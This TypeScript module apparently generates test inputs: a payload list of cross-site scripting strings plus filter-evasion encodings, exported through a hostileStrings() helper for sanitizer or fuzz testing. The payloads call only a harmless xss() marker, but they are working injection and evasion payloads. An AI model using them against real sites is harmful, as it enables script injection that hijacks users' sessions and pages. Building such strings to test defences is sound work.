const run = 'xss()'

/** Payloads that run where text is inserted as markup: as a tag, an attribute, a URL, a script, a style, a template. */
const payloads: readonly string[] = [
  ...[
    `<script>${run}</script>`,
    `<script src=data:,${run}></script>`,
    `<img src=x onerror=${run}>`,
    `<svg onload=${run}>`,
  ],
  ...[
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x>`,
    `<math href="javascript:${run}">x`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.${run}</script>">`,
    `<iframe src="javascript:${run}">`,
    `<object data="javascript:${run}">`,
  ],
  ...[
    `<embed src="javascript:${run}">`,
    `<video><source onerror=${run}>`,
    `<audio src=x onerror=${run}>`,
    `<body onload=${run}>`,
  ],
  ...[
    `<input autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>x`,
    `<marquee onstart=${run}>x`,
    `<style onload=${run}></style>`,
  ],
  ...[
    `<style>*{background:url(javascript:${run})}</style>`,
    `<link rel=stylesheet href="data:text/css,*{}" onload=${run}>`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    '<base href="javascript:RUN//">'.replace('RUN', run),
    `<a href="javascript:${run}">x</a>`,
  ],
  ...[
    `<form action="javascript:${run}"><button autofocus>x`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  ],
  ...[
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `[x](javascript:${run})`,
    `![x](x" onerror="${run})`,
  ],
  ...[
    `';${run};//`,
    `";${run};//`,
    `\`;${run};//`,
    `\${${run}}`,
    `{{constructor.constructor('${run}')()}}`,
    `<%= ${run} %>`,
  ],
  ...[
    `"}</script><script>${run}</script>`,
    `]]><script>${run}</script>`,
    `\u2028${run}//`,
    `x" onmouseover="${run}" y="`,
  ],
  ...[`x' autofocus onfocus='${run}`, `expression(${run})`, `<!--[if gte IE 4]><script>${run}</script><![endif]-->`],
]

/** Encodings that try to pass a filter. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('XSS()', run),
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></textarea></style></script>${text}`,
  (text) => `--><!-- -->${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('(', '&#40;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t').replace('script', 'scr\tipt'),
  (text) => text.replace('<script', '<scr<script>ipt'),
]

/** Each fits into the shortest field. */
const MAX_LENGTH = 118

/** All of them, or `count` of them evenly chosen. */
export function hostileStrings(count = Number.POSITIVE_INFINITY): string[] {
  const all = encodings.flatMap((encode) => payloads.map(encode)).filter((text) => text.length <= MAX_LENGTH)
  const step = Math.max(1, Math.floor(all.length / count))
  return [...new Set(all)].filter((_, index) => index % step === 0).slice(0, count)
}
